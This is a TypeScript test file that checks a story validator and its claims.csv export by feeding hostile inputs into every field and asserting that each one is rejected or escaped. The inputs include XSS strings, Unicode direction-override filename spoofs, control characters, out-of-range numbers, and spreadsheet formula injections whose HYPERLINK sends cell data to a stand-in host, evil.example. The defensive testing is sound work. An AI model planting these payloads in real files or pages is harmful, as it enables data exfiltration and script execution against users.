/**
 * A census of hostile story data: every payload is put in every field it could reach, and each
 * must be either rejected by the validator or escaped on the way out (claims.csv). None may reach
 * the output unchanged. The totals are printed for the record.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { validateStory, type StoryInput } from '../../src/lib/story';
import { claimsCsv, FORMULA_STARTS } from '../../src/lib/story/csv';
import mini from '../fixtures/mini-story';

type Setter = (s: StoryInput, value: string) => void;

/** Text fields a hostile story could fill, and how to fill them. */
const TEXT_FIELDS: [string, Setter][] = [
	['actors[0].name', (s, x) => (s.actors[0]!.name = x)],
	['actors[0].shortName', (s, x) => (s.actors[0]!.shortName = x)],
	['actors[0].description', (s, x) => (s.actors[0]!.description = x)],
	['claimants[0].name', (s, x) => (s.claimants[0]!.name = x)],
	['claimants[0].shortName', (s, x) => (s.claimants[0]!.shortName = x)],
	['places[0].name', (s, x) => (s.places[0]!.name = x)],
	['sources[0].title', (s, x) => (s.sources[0]!.title = x)],
	['claims[0].scope', (s, x) => (s.claims[0]!.scope = x)],
	['claims[0].note', (s, x) => (s.claims[0]!.note = x)],
	['chapters[0].title', (s, x) => (s.chapters[0]!.title = x)],
	['chapters[0].steps[0].text', (s, x) => (s.chapters[0]!.steps[0]!.text = x)],
	['chapters[0].steps[0].title', (s, x) => (s.chapters[0]!.steps[0]!.title = x)]
];

/** Payloads the validator must refuse wherever they appear. */
const REFUSED = [
	...['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'].map(
		(c) => `admin${c}txt.exe`
	),
	'a\ufeffb',
	'a\u200bb',
	'a\u2060b',
	'a\u2028b',
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'java\tscript:alert(1)',
	'&lt;b&gt;',
	'a\u0000b',
	'a\u001bb',
	'x'.repeat(50_000)
];

/** Payloads that are fair text in prose but would run in a spreadsheet: escaped in the CSV. */
const FORMULAS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'].map(
	(c) => `${c}HYPERLINK("https://evil.example/?"&A1,"x")`
);

/** Hostile numbers for low, high and outOf. */
const NUMBERS = [1e308, 1e10 + 1, -1, Number.NaN, Infinity, -Infinity, Number.MAX_VALUE];

function copy(): StoryInput {
	return structuredClone(mini);
}

describe('hostile story data census', () => {
	it('rejects or escapes every hostile input; none reaches the output unchanged', () => {
		let tried = 0;
		let rejected = 0;
		let escaped = 0;
		let unchanged = 0;
		/** Accepted as text that starts no claims.csv cell (pages escape all text). */
		let elsewhere = 0;
		const leaks: string[] = [];

		for (const [field, set] of TEXT_FIELDS) {
			for (const payload of [...REFUSED, ...FORMULAS]) {
				tried++;
				const story = copy();
				set(story, payload);
				const result = validateStory(story);
				if (!result.ok) {
					rejected++;
					continue;
				}
				// Accepted: it must not reach the CSV in a form a spreadsheet would run.
				const cells = Papa.parse<string[]>(claimsCsv(result.story), { delimiter: ',' }).data.flat();
				const runs = cells.some((cell) => FORMULA_STARTS.test(cell));
				const escapedHere = cells.some(
					(cell) => cell === `'${payload}` || cell.includes(`'${payload}`)
				);
				if (runs) {
					unchanged++;
					leaks.push(`${field}: ${JSON.stringify(payload).slice(0, 40)}`);
				} else if (escapedHere) escaped++;
				else if (REFUSED.includes(payload)) {
					unchanged++;
					leaks.push(`${field}: ${JSON.stringify(payload).slice(0, 40)} was accepted`);
				} else elsewhere++;
			}
		}
		for (const field of ['low', 'high', 'outOf'] as const) {
			for (const n of NUMBERS) {
				tried++;
				const story = copy();
				(story.claims[1] as Record<string, unknown>)[field] = n;
				if (!validateStory(story).ok) rejected++;
				else {
					unchanged++;
					leaks.push(`claims[1].${field}: ${n}`);
				}
			}
		}
		console.log(
			`hostile story inputs: ${tried} tried, ${rejected} rejected, ${escaped} escaped in claims.csv, ${elsewhere} accepted as inert text (no claims.csv cell starts with them; pages escape all text), ${unchanged} unchanged`
		);
		expect(leaks).toEqual([]);
		expect(unchanged).toBe(0);
		expect(rejected + escaped + elsewhere).toBe(tried);
		// Only spreadsheet formulas may be accepted, and only as text.
		expect(elsewhere).toBeLessThanOrEqual(FORMULAS.length * TEXT_FIELDS.length);
	});
});
